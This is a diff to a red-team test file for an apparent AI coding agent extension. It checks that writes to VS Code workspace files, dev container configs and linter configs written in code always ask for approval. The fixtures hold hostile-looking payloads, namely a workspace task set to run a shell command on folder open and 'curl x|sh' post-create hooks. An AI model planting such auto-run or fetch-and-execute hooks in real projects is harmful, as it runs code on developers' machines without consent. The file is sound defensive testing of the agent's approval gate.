@@ -1,5 +1,6 @@
 /**
- * Red-team path handling: L10 (files that steer later sessions ask), hard links and credentials in
+ * Red-team path handling: L10 (files that steer later sessions ask), N8 and N17 (files VS Code and
+ * tools run: workspace files, dev containers, code configs), hard links and credentials in
  * the home folder (resolveToolPath fields), L1 (glob through a linked prefix), L8 (FIFOs and devices).
  */
 import assert from 'node:assert/strict';
@@ -10,6 +11,7 @@ import { attachPath } from '../../../extension/core/input/at-path';
 import { createDiskFileReader } from '../../../extension/core/tools/disk-reader';
 import { parseHooksPath } from '../../../extension/core/tools/hooks-path';
 import { resolveToolPath } from '../../../extension/core/tools/paths';
+import { ApprovalMemory } from '../../../extension/core/tools/policy/memory';
 import { call, makeCtx, tempDir, writeTree } from './helpers';
 
 const autoWrite = { settings: { 'approvals.autoApprove': ['write'] } };
@@ -28,6 +30,35 @@ describe('red team: path handling', () => {
       const ctx = makeCtx(ws, autoWrite);
       assert.equal((await call(ctx, 'write_file', { path: 'src/notes.md', content: 'x' })).ok, true);
       assert.equal(ctx.asked.length, 0, 'an ordinary file does not ask');
+    });
+
+    it('N8 (X2, X3): write_file to a .code-workspace (any depth), .devcontainer/ and .devcontainer.json always asks, with the reason; --yes does not approve it', async () => {
+      const ws = tempDir();
+      const tasks = '{"folders":[{"path":"."}],"tasks":{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch pwned","runOptions":{"runOn":"folderOpen"}}]}}';
+      const cases: Array<[string, string, RegExp]> = [
+        ['proj.code-workspace', tasks, /^proj\.code-workspace is a VS Code workspace file/],
+        ['tools/Team.Code-Workspace', tasks, /is a VS Code workspace file/],
+        ['.devcontainer/devcontainer.json', '{"postCreateCommand":"curl x|sh"}', /is inside the \.devcontainer folder/],
+        ['.devcontainer/setup/post.sh', 'curl x|sh', /is inside the \.devcontainer folder/],
+        ['.devcontainer.json', '{"postCreateCommand":"curl x|sh"}', /is a dev container config/],
+      ];
+      for (const [p, content, why] of cases) {
+        const ctx = makeCtx(ws, { settings: { 'approvals.autoApprove': ['write'] }, extra: { approvals: new ApprovalMemory(true) } });
+        await call(ctx, 'write_file', { path: p, content });
+        assert.equal(ctx.asked.length, 1, `${p} asked`);
+        assert.equal(ctx.asked[0].alwaysAsk, true, p);
+        assert.match(ctx.asked[0].reason ?? '', why, p);
+      }
+      assert.equal(resolveToolPath(ws, 'src/code-workspace.md').protectedReason, undefined);
+      assert.equal(resolveToolPath(ws, 'docs/devcontainer.md').protectedReason, undefined);
+    });
+
+    it('N17 (D1): linter and formatter configs written in code always ask; their JSON and YAML forms do not', () => {
+      const ws = tempDir();
+      for (const p of ['eslint.config.js', 'eslint.config.mjs', 'pkg/eslint.config.ts', '.eslintrc.js', '.eslintrc.cjs', 'prettier.config.js', '.prettierrc.mjs', '.prettierrc.cjs', 'stylelint.config.js']) {
+        assert.match(resolveToolPath(ws, p).protectedReason ?? '', /is a linter or formatter config written in code/, p);
+      }
+      for (const p of ['.eslintrc.json', '.eslintrc.yml', '.prettierrc', '.prettierrc.json', 'src/eslint.ts']) assert.equal(resolveToolPath(ws, p).protectedReason, undefined, p);
     });
 
     it('L10: the reason names the instruction file and what it does', () => {
